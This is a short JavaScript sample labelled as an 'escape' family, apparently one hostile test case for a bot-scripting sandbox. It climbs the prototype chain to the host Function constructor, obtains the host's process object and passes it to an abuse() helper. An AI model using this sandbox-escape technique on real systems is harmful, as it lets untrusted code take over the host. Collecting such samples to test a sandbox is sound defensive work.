// family: escape
// walks prototypes up to the host's Object
async function main (bot) {
  let thing = bot.entity
  while (Object.getPrototypeOf(thing)) thing = Object.getPrototypeOf(thing)
  abuse(bot, thing.constructor.constructor('return process')())
}
